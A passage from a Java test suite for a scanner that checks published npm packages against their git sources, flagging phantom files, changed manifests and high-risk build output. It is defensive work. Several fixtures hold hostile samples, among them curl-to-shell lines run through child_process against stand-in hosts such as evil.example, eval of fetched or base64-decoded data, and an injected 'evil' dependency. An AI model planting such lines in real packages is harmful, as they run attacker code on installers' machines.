                        ? "release:\n\t$(MAKE) build\n\tcd build/ && npm publish\n" : "build:\n\tbabel lib -d build\n");
        ArtifactReport a = publishAndScan(tree, "5.0.0", files("package.json", pkgJson("widget", "5.0.0", config),
                "index.js", "exports.default = 1;\n", "cli.js", "require('./index');\n", "README.md", "# widget\n",
                "internal/wrap.js", "module.exports = eval('(async function () {})');\n"));
        FileDivergence index = row(a, "package/index.js");
        FileDivergence wrap = row(a, "package/internal/wrap.js");
        if (how.equals("not ignored") || how.equals("no publish command")) {
            assertEquals(FileStatus.PHANTOM, index.status(), index.toString());
            assertEquals(FileStatus.MODIFIED, row(a, "package/cli.js").status());
            return;
        }
        assertEquals(FileStatus.BUILD_OUTPUT, index.status(), index.toString());
        assertTrue(index.detail().orElseThrow().contains("published from build/"), index.toString());
        assertFalse(index.highRisk());
        // still scanned: dynamic evaluation in build output is HIGH_RISK
        assertEquals(FileStatus.BUILD_OUTPUT, wrap.status());
        assertTrue(wrap.highRisk(), wrap.toString());
        // a file the manifest's folder holds too is the build's when it differs (a development entry there)
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/cli.js").status());
        // the manifest stays compared, and a copied file matches
        assertEquals(FileStatus.MATCH, row(a, "package/README.md").status());
        assertFalse(row(a, "package/package.json").status() == FileStatus.BUILD_OUTPUT);
    }

    @Test
    void publishFoldersAreReadFromTheCommandsThatPublish() {
        assertEquals(List.of("build/"), NpmBuildOutputs.publishFolders("make all && cd build/ && npm publish"));
        assertEquals(List.of("dist"), NpmBuildOutputs.publishFolders("npm publish --access public dist"));
        assertEquals(List.of("./out"), NpmBuildOutputs.publishFolders("pnpm publish --tag beta ./out --no-git-checks"));
        assertEquals(List.of(), NpmBuildOutputs.publishFolders("npm publish"));
        assertEquals(List.of(), NpmBuildOutputs.publishFolders("npm publish widget-1.0.0.tgz"));
        assertEquals(List.of(), NpmBuildOutputs.publishFolders("npm publish $DIR"));
        assertEquals(List.of(), NpmBuildOutputs.publishFolders("echo cd build && npm test"));
    }

    @Test
    void largeBuildOutputIsScannedWholeAndPastTheLimitIsNotExplainedByItsName() throws Exception {
        // red team round 8: a plain eval(d) padded past 8 MiB with a data table, in a gitignored dist/ named by main
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0",
                        ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
                "index.js", "module.exports = require('./dist/big');\n", "cli.js", "require('./index');\n");
        String table = "const t = [" + "1,".repeat(5_000_000) + "0];\n";
        String huge = "const u = [" + "2,".repeat(34_000_000) + "0];\n";
        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree,
                "dist/big.js", table + "require('https').get(process.env.U, r => r.on('data', d => eval(String(d))));\n",
                "dist/huge.js", huge));
        FileDivergence big = row(a, "package/dist/big.js");
        assertEquals(FileStatus.BUILD_OUTPUT, big.status(), big.toString());
        assertTrue(big.highRisk(), "scanned past 8 MiB: " + big);
        FileDivergence past = row(a, "package/dist/huge.js");
        assertEquals(FileStatus.PHANTOM, past.status(), past.toString());
        assertTrue(past.detail().orElseThrow().contains("too large to scan"), past.toString());
    }

    @Test
    void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0",
                        ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
                "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
                "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
                        + "//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
                        + Base64.getEncoder().encodeToString(new byte[900]) + "\n",
                "dist/boot.js", "module.exports = eval(atob(process.env.X));\n",
                "dist/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
                "dist/impl.min.js", "exports.x=1;".repeat(400) + "\n",
                "dist/telemetry.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n"));
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/impl.js").status());
        assertFalse(row(a, "package/dist/impl.js").highRisk());
        assertFalse(row(a, "package/dist/impl.min.js").highRisk(), "minified alone is expected in build output");
        FileDivergence t = row(a, "package/dist/telemetry.js");
        assertEquals(FileStatus.BUILD_OUTPUT, t.status());
        assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, t.ruleId());
        assertTrue(t.riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(t.highRisk());
        // regex .exec(, fromCharCode, the Function("return this") shim and an inline source map are what bundles hold
        assertEquals(Set.of(RiskFlag.CODE), row(a, "package/dist/impl.js").riskFlags());
        assertTrue(row(a, "package/dist/boot.js").riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(row(a, "package/dist/blob.js").riskFlags().contains(RiskFlag.ENCODED_BLOB));
        assertEquals(List.of("package/dist/blob.js", "package/dist/boot.js", "package/dist/telemetry.js"),
                a.highRiskPaths().stream().sorted().toList());
        assertEquals(5, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void junkInAFolderTheManifestNamesAndGitIgnoresIsStillJunkNotBuildOutput() throws Exception {
        // picomatch 1.1.2: package/lib/.DS_Store, lib named by "files", *.DS_Store in .gitignore
        SortedMap<String, byte[]> tree = files("package.json", "{\"name\":\"widget\",\"version\":\"4.9.0\","
                        + "\"files\":[\"lib\"],\"main\":\"lib/index.js\",\"repository\":\"github:acme/widget\"}\n",
                "lib/index.js", "module.exports = 1;\n", ".gitignore", "*.DS_Store\nnode_modules\n");
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "lib/.DS_Store", "\u0000\u0000\u0000\u0001Bud1"));
        FileDivergence junk = row(a, "package/lib/.DS_Store");
        assertEquals(FileStatus.PHANTOM, junk.status());
        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aFileMainLoadsIsNotExcusedAsAccidentalJunk() throws Exception {
        String manifest = "{\"name\":\"widget\",\"version\":\"4.8.0\",\"main\":\"coverage/boot.js\","
                + "\"repository\":\"github:acme/widget\"}\n";
        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree, "coverage/boot.js", "module.exports = require('../index');\n",
                "coverage/lcov.info", "TN:\n"));
        FileDivergence junk = row(a, "package/coverage/lcov.info");
        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId());
        assertFalse(junk.highRisk());
        FileDivergence boot = row(a, "package/coverage/boot.js");
        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, boot.ruleId());
        assertTrue(boot.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertTrue(boot.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }
    /** Commits {@code tree} without a tag (a pre-release published from a working tree) and scans {@code version}. */
    private ArtifactReport publishUntaggedAndScan(SortedMap<String, byte[]> tree, String version,
                                                  SortedMap<String, byte[]> shipped) throws Exception {
        commit(tree, "work");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish(version, shipped);
            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
        }
    }

    private static final String PRE_BASE = ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"},\n"
            + "  \"scripts\": {\"test\": \"tap\"}";

    private static SortedMap<String, byte[]> preTree() {
        return files("package.json", pkgJson("widget", "6.6.0", PRE_BASE), "index.js", "module.exports = 1;\n",
                "cli.js", "require('./index');\n");
    }

    @Test
    void aPreReleaseWhoseManifestDiffersOnlyByThisReleasesVersionIsExplained() throws Exception {
        SortedMap<String, byte[]> tree = preTree();
        ArtifactReport a = publishUntaggedAndScan(tree, "6.6.1-candidate.0", with(tree, "package.json",
                pkgJson("widget", "6.6.1-candidate.0", PRE_BASE)));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
        assertEquals("only the version differs: published 6.6.1-candidate.0, source declares 6.6.0",
                pj.detail().orElseThrow());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aVersionWithBlanksIsTheVersionNpmReadsButNotAnotherOne() throws Exception {
        SortedMap<String, byte[]> tree = preTree();
        commit(tree, "work");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("6.6.2-candidate.1", with(tree, "package.json", pkgJson("widget", " 6.6.2-candidate.1", PRE_BASE)));
            npm.publish("6.6.2-candidate.2", with(tree, "package.json", pkgJson("widget", "6.6.2-candidate.22", PRE_BASE)));
            ReleaseReport ok = scan(npm, "pkg:npm/widget", "6.6.2-candidate.1");
            assertEquals(NpmGeneratedFiles.VERSION_ONLY, row(ok.artifacts().get(0), "package/package.json").ruleId());
            assertEquals(Verdict.EXPLAINED, ok.verdict());
            ReleaseReport other = scan(npm, "pkg:npm/widget", "6.6.2-candidate.2");
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, row(other.artifacts().get(0), "package/package.json").ruleId());
            assertEquals(Verdict.DIVERGENT, other.verdict());
        }
    }

    @Test
    void theVersionOnlyRuleExplainsNothingBesideTheVersion() throws Exception {
        SortedMap<String, byte[]> tree = preTree();
        commit(tree, "work");
        // each payload sits beside a version bump; none may ride on the version-only explanation
        String[][] cases = {
                {"7.0.0-alpha.1", pkgJson("widget", "7.0.0-alpha.1", PRE_BASE).replace("./index.js", "./loader.js"),
                        "package.json fields differ: [main, version]"},
                {"7.0.0-alpha.2", pkgJson("widget", "7.0.0-alpha.2", PRE_BASE.replace("\"tap\"", "\"tap\", \"lint\": \"x\"")),
                        "package.json differs only in fields no install or run reads: [scripts, version]"},
                {"7.0.0-alpha.3", pkgJson("widget", "7.0.0-alpha.3", PRE_BASE + ",\n  \"engines\": {\"node\": \">=4\"}"),
                        "package.json fields differ: [engines, version]"},
                {"7.0.0-alpha.4", pkgJson("widget", "7.0.0", PRE_BASE), "package.json fields differ: [version]"},
        };
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            for (String[] c : cases) {
                npm.publish(c[0], with(tree, "package.json", c[1], "loader.js", "module.exports = 2;\n"));
            }
            npm.publish("7.0.0-alpha.5", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.5",
                    PRE_BASE.replace("{\"left-pad\": \"^1.0.0\"}", "{\"left-pad\": \"^1.0.0\", \"evil\": \"1.0.0\"}"))));
            for (String[] c : cases) {
                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
                assertEquals(FileStatus.MODIFIED, pj.status(), c[0]);
                assertEquals(c[2].startsWith("package.json differs only") ? NpmGeneratedFiles.DEV_FIELDS_DIFFER
                        : NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
            }
            npm.publish("7.0.0-alpha.6", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.6",
                    PRE_BASE.replace("^1.0.0", "^1.3.0"))));
            ReleaseReport dep = scan(npm, "pkg:npm/widget", "7.0.0-alpha.5");
            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, row(dep.artifacts().get(0), "package/package.json").ruleId());
            assertEquals(Verdict.HIGH_RISK, dep.verdict());
            ReleaseReport range = scan(npm, "pkg:npm/widget", "7.0.0-alpha.6");
            FileDivergence pj = row(range.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
            assertEquals("dependency ranges differ from the source's [left-pad ^1.3.0 (source: ^1.0.0)]; "
                    + "package.json fields differ: [dependencies, version]", pj.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, range.verdict());
        }
    }

    @Test
    void developmentOnlyFieldsRemovedAtPublishAreExplainedWithTheVersionBump() throws Exception {
        String extra = ",\n  \"packageManager\": \"pnpm@10.14.0\",\n  \"prettier\": {\"semi\": false},\n"
                + "  \"devDependencies\": {\"jest\": \"29\"},\n  \"scripts\": {\"prepare\": \"husky\", \"test\": \"jest\","
                + " \"build\": \"tsc\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.0.0", extra),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishUntaggedAndScan(tree, "3.0.0-canary.1", with(tree, "package.json",
                pkgJson("widget", "3.0.0-canary.1", ",\n  \"scripts\": {\"build\": \"tsc\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
        assertEquals("only the version differs: published 3.0.0-canary.1, source declares 3.0.0; development-only "
                + "fields removed at publish: [devDependencies, packageManager, prettier, scripts.prepare, scripts.test]",
                pj.detail().orElseThrow());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void anNpmignoreHoldingTheSourcesGitignoreIsGeneratedAndAnyOtherIsNot() throws Exception {
        // npm 1.x published a package without .npmignore with its .gitignore written as package/.npmignore
        String gitignore = "node_modules\n*.log\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""), ".gitignore", gitignore,
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishUntaggedAndScan(tree, "4.0.0", with(tree, ".npmignore", gitignore));
        FileDivergence n = row(a, "package/.npmignore");
        assertEquals(FileStatus.GENERATED, n.status(), n.toString());
        assertEquals(NpmGeneratedFiles.NPMIGNORE_FROM_GITIGNORE, n.ruleId());
    }

    @Test
    void anNpmignoreThatIsNotTheSourcesGitignoreIsNotExplained() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.0", ""), ".gitignore", "node_modules\n",
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishUntaggedAndScan(tree, "4.1.0", with(tree, ".npmignore", "node_modules\n*.log\n"));
        FileDivergence n = row(a, "package/.npmignore");
        assertFalse(n.status() == FileStatus.GENERATED || n.status() == FileStatus.MATCH_NORMALIZED, n.toString());
    }

    /**
     * What fstream-npm (npm 1.1 to 4) packs from a working tree: every {@code .gitignore} is written as
     * {@code .npmignore}, and dropped where the folder has its own {@code .npmignore}.
     */
    private static SortedMap<String, byte[]> packedByFstreamNpm(SortedMap<String, byte[]> workingTree) {
        SortedMap<String, byte[]> out = new java.util.TreeMap<>();
        workingTree.forEach((path, bytes) -> {
            int slash = path.lastIndexOf('/');
            String folder = path.substring(0, slash + 1);
            if (path.substring(slash + 1).equals(".gitignore")) {
                if (!workingTree.containsKey(folder + ".npmignore")) {
                    out.put(folder + ".npmignore", bytes);
                }
            } else {
                out.put(path, bytes);
            }
        });
        return out;
    }

    private static final String UNTRACKED_IGNORE = "node_modules/\nnpm-debug.log"; // mkdirp 0.3.1-0.5.0, no final newline

    @Test
    void anUntrackedGitignorePackedAsNpmignoreIsGeneratedIgnoreRules() throws Exception {
        // mkdirp 0.3.4: the publisher's .gitignore was never committed; fstream-npm shipped it as package/.npmignore
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.2.0",
                packedByFstreamNpm(with(tree, ".gitignore", UNTRACKED_IGNORE)));
        FileDivergence n = row(a, "package/.npmignore");
        assertEquals(FileStatus.GENERATED, n.status(), n.toString());
        assertEquals(NpmGeneratedFiles.IGNORE_FILE_UNTRACKED, n.ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void anUntrackedGitignoreShippedUnderItsOwnNameIsGeneratedIgnoreRules() throws Exception {
        // npm 1.0 (mkdirp 0.0.7-0.3.0) packed the working tree's .gitignore as it was
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.1", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.2.1",
                with(tree, ".gitignore", "# deps\r\nnode_modules/\r\n!lib/*.py[cod]\r\n\r\n"));
        FileDivergence n = row(a, "package/.gitignore");
        assertEquals(FileStatus.GENERATED, n.status(), n.toString());
        assertEquals(NpmGeneratedFiles.IGNORE_FILE_UNTRACKED, n.ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    private static final String BLOB = "QmFzZTY0IHBheWxvYWQgdGhhdCBpcyBub3QgYSBmaWxlIG5hbWUgYXQgYWxs";

    /** Payloads in the rule's slack: code, an encoded blob shaped as a pattern or a comment, past the size bound. */
    static java.util.stream.Stream<String> ignoreFileSlack() {
        return java.util.stream.Stream.of(
                UNTRACKED_IGNORE + "\nrequire('child_process').execSync('curl -s https://x.example | sh')\n",
                UNTRACKED_IGNORE + "\n" + BLOB + "\n",
                UNTRACKED_IGNORE + "\n# " + BLOB + "\n",
                UNTRACKED_IGNORE + "\n" + "lib/x\n".repeat(NpmIgnoreFiles.MAX_BYTES / 6 + 1));
    }

    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.MethodSource("ignoreFileSlack")
    void anUntrackedIgnoreFileCarryingAnythingButIgnoreRulesStaysVisible(String content) throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.3.0", packedByFstreamNpm(with(tree, ".gitignore", content)));
        FileDivergence n = row(a, "package/.npmignore");
        assertEquals(FileStatus.PHANTOM, n.status(), n.toString());
        assertEquals(Classifier.UNEXPLAINED, n.ruleId());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void ignoreRulesTheManifestRunsOrInASubfolderAreNotExplainedAsIgnoreRules() throws Exception {
        // a bin target runs whatever its name; only the package root's ignore file is modelled
        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"widget\",\n  \"version\": \"4.4.0\",\n"
                + "  \"bin\": \".npmignore\",\n  \"repository\": \"github:acme/widget\"\n}\n",
                "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.4.0",
                packedByFstreamNpm(with(tree, ".gitignore", UNTRACKED_IGNORE, "lib/.gitignore", UNTRACKED_IGNORE)));
        FileDivergence main = row(a, "package/.npmignore");
        assertEquals(FileStatus.PHANTOM, main.status(), main.toString());
        assertEquals(Classifier.UNEXPLAINED, main.ruleId());
        assertTrue(main.highRisk(), main.toString());
        FileDivergence sub = row(a, "package/lib/.npmignore");
        assertEquals(FileStatus.PHANTOM, sub.status(), sub.toString());
        assertEquals(Classifier.UNEXPLAINED, sub.ruleId());
    }

    @Test
    void patchLeftoversAreAccidentalJunkUnlessTheManifestRunsThem() throws Exception {
        // mkdirp 0.0.7: patch(1) left examples/pow.js.orig (the file before the patch) and .rej (its rejected hunk)
        String before = "var mkdirp = require('mkdirp').mkdirp;\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "examples/pow.js", "var mkdirp = require('../').mkdirp;\n");
        ArtifactReport a = publishAndScan(tree, "4.5.0", with(tree, "examples/pow.js.orig", before,
                "examples/pow.js.rej", "--- examples/pow.js\n+++ examples/pow.js\n@@ -1 +1 @@\n-" + before
                        + "+var mkdirp = require('../').mkdirp;\n"));
        for (String p : List.of("package/examples/pow.js.orig", "package/examples/pow.js.rej")) {
            FileDivergence junk = row(a, p);
            assertEquals(FileStatus.PHANTOM, junk.status(), p);
            assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId(), p);
            assertFalse(junk.highRisk(), p);
        }
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aPatchLeftoverTheManifestRunsStaysHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"widget\",\n  \"version\": \"4.6.0\",\n"
                + "  \"bin\": \"index.js.orig\",\n  \"repository\": \"github:acme/widget\"\n}\n",
                "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.6.0", with(tree, "index.js.orig", "module.exports = 2;\n"));
        FileDivergence orig = row(a, "package/index.js.orig");
        assertTrue(orig.highRisk(), orig.toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void thePrivateMarkRemovedAtPublishIsExplainedAndNothingElseRidesOnIt() throws Exception {
        // npm refuses to publish "private": true, so a source marked private is published by a build removing it.
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.2.0", ",\n  \"private\": true"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishUntaggedAndScan(tree, "3.2.0", with(tree, "package.json", pkgJson("widget", "3.2.0", "")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status(), pj.toString());
        assertEquals(NpmGeneratedFiles.DEV_FIELDS_STRIPPED, pj.ruleId());
        assertEquals("development-only fields removed at publish: [private]", pj.detail().orElseThrow());
    }

    @Test
    void aPrivateMarkRemovedBesideAnotherChangeOrAddedIsNotExplained() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.3.0", ",\n  \"private\": true"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "work");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            // the mark removed and an install script added; the mark turned false instead of removed
            npm.publish("3.3.0", with(tree, "package.json", pkgJson("widget", "3.3.0",
                    ",\n  \"scripts\": {\"postinstall\": \"node cli.js\"}")));
            npm.publish("3.3.1", with(tree, "package.json", pkgJson("widget", "3.3.0", ",\n  \"private\": false")));
            FileDivergence hook = row(scan(npm, "pkg:npm/widget", "3.3.0").artifacts().get(0), "package/package.json");
            assertFalse(hook.status() == FileStatus.MATCH_NORMALIZED || hook.status() == FileStatus.GENERATED, hook.toString());
            FileDivergence flipped = row(scan(npm, "pkg:npm/widget", "3.3.1").artifacts().get(0), "package/package.json");
            assertFalse(flipped.status() == FileStatus.MATCH_NORMALIZED || flipped.status() == FileStatus.GENERATED,
                    flipped.toString());
        }
    }

    @Test
    void strippingDevelopmentFieldsNeverExplainsARemovedEntryPointOrInstallScriptOrAChangedValue() throws Exception {
        String extra = ",\n  \"prettier\": {\"semi\": false},\n"
                + "  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node setup.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.1.0", extra),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "1;\n",
                "main.js", "module.exports = 2;\n");
        commit(tree, "3.1.0");
        git.tag("v3.1.0", false);
        String keepPostinstall = ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}";
        String[][] cases = {
                // main removed: the entry point falls back to index.js
                {"3.1.0", "{\"name\": \"widget\", \"version\": \"3.1.0\", \"bin\": \"./cli.js\", \"repository\": "
                        + "\"github:acme/widget\", \"scripts\": {\"postinstall\": \"node setup.js\"}}",
                        "package.json fields differ: [main]"},
                // the install script removed is not a development field, but a removal only
                // (npm.package-json.entries-removed): checked below
                // a development field whose value changed is not a removal
                {"3.1.2", pkgJson("widget", "3.1.0", ",\n  \"prettier\": {\"semi\": true}" + keepPostinstall),
                        "package.json differs only in fields no install or run reads: [prettier]"},
        };
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            for (String[] c : cases) {
                npm.publish(c[0], with(tree, "package.json", c[1]));
            }
            for (String[] c : cases) {
                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
                assertEquals(FileStatus.MODIFIED, pj.status(), c[0]);
                assertEquals(c[2].startsWith("package.json differs only") ? NpmGeneratedFiles.DEV_FIELDS_DIFFER
                        : NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
            }
            npm.publish("3.1.1", with(tree, "package.json", pkgJson("widget", "3.1.0", "")));
            FileDivergence removed = row(scan(npm, "pkg:npm/widget", "3.1.1").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, removed.status(), removed.toString());
            assertEquals(NpmGeneratedFiles.DEV_FIELDS_STRIPPED, removed.ruleId(), removed.toString());
            assertTrue(removed.detail().orElseThrow().contains("entries removed at publish"), removed.toString());
        }
    }

    @Test
    void cleanPublishsDevelopmentFieldsRemovedAreExplainedButARuntimeFieldRemovedIsNot() throws Exception {
        // clean-publish's IGNORE_FIELDS include yaspeller, sharec and pnpm; "browser" decides which file a bundler
        // loads, so its removal is never a development field's
        String extra = ",\n  \"browser\": {\"./index.js\": \"./cli.js\"},\n  \"yaspeller\": {\"lang\": \"en\"},\n"
                + "  \"sharec\": {\"config\": \"@logux/sharec-config\"},\n  \"pnpm\": {\"overrides\": {}}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.4.0", extra),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "3.4.0");
        git.tag("v3.4.0", false);
        String browser = ",\n  \"browser\": {\"./index.js\": \"./cli.js\"}";
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("3.4.0", with(tree, "package.json", pkgJson("widget", "3.4.0", browser)));
            npm.publish("3.4.1", with(tree, "package.json", pkgJson("widget", "3.4.0", "")));
            FileDivergence stripped = row(scan(npm, "pkg:npm/widget", "3.4.0").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, stripped.status(), stripped.toString());
            assertEquals(NpmGeneratedFiles.DEV_FIELDS_STRIPPED, stripped.ruleId());
            assertEquals("development-only fields removed at publish: [yaspeller, sharec, pnpm]",
                    stripped.detail().orElseThrow());
            FileDivergence runtime = row(scan(npm, "pkg:npm/widget", "3.4.1").artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, runtime.status(), runtime.toString());
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, runtime.ruleId());
            assertEquals("package.json fields differ: [browser]", runtime.detail().orElseThrow());
        }
    }

    @Test
    void javaScriptPublishedWithoutItsCommentsIsExplainedAndAPayloadBesideThemIsNot() throws Exception {
        String index = "/**\n * Widget.\n * @returns {number}\n */\n\n// one\nmodule.exports = function () {\n"
                + "  return 1 // the answer\n}\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.5.0", ""),
                "index.js", index, "cli.js", "#!/usr/bin/env node\n// run it\nrequire('./index')\n", "README.md",
                "# widget\n\nA widget.\n\n## Usage\n\nCall it.\n");
        commit(tree, "3.5.0");
        git.tag("v3.5.0", false);
        String stripped = "module.exports = function () {\n  return 1\n}\n";
        // clean-publish cleanDocs: the README cut to its first section and a link
        String readme = "# widget\n\nA widget.\n\n## Docs\nRead full docs **[here](https://github.com/acme/widget#readme)**.\n";
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("3.5.0", with(with(tree, "index.js", stripped), "cli.js",
                    "#!/usr/bin/env node\nrequire('./index')\n"));
            npm.publish("3.5.1", with(tree, "index.js", "module.exports = function () {\n  return 1\n}\n"
                    + "require('child_process').exec('curl evil.example | sh')\n"));
            npm.publish("3.5.2", with(with(with(tree, "index.js", stripped), "README.md", readme), "package.json",
                    pkgJson("widget", "3.5.2", "")));
            ArtifactReport a = scan(npm, "pkg:npm/widget", "3.5.0").artifacts().get(0);
            for (String path : List.of("package/index.js", "package/cli.js")) {
                FileDivergence f = row(a, path);
                assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), f.toString());
                assertEquals(NpmGeneratedFiles.JS_COMMENTS_STRIPPED, f.ruleId());
            }
            assertEquals(Verdict.EXPLAINED, a.verdict());
            FileDivergence payload = row(scan(npm, "pkg:npm/widget", "3.5.1").artifacts().get(0), "package/index.js");
            assertEquals(FileStatus.MODIFIED, payload.status(), payload.toString());
            assertTrue(payload.highRisk(), payload.toString());
            ReleaseReport docs = scan(npm, "pkg:npm/widget", "3.5.2");
            assertEquals(Verdict.DIVERGENT, docs.verdict());
            assertEquals(FileStatus.MODIFIED, row(docs.artifacts().get(0), "package/README.md").status());
            assertTrue(dev.divergence.scan.ReleaseFlags.docOnlyDivergence(docs));
        }
    }

    @Test
    void aReadmeCleanPublishsCleanDocsCutIsExplainedOnlyAsTheToolCutsIt() throws Exception {
        // nanoid 3.1.26-6.x: "clean-publish": {"cleanDocs": true}; the README is the source's up to its first "##"
        String extra = ",\n  \"repository\": \"acme/widget\",\n  \"clean-publish\": {\"cleanDocs\": true}";
        String source = "# widget\n\nA widget.\n\n[link]: https://example.org\n\n\n## Usage\n\nCall it.\n\n## API\n\nwidget()\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.6.0", extra),
                "index.js", "module.exports = 1;\n", "README.md", source);
        commit(tree, "3.6.0");
        git.tag("v3.6.0", false);
        String head = "# widget\n\nA widget.\n\n[link]: https://example.org\n\n";
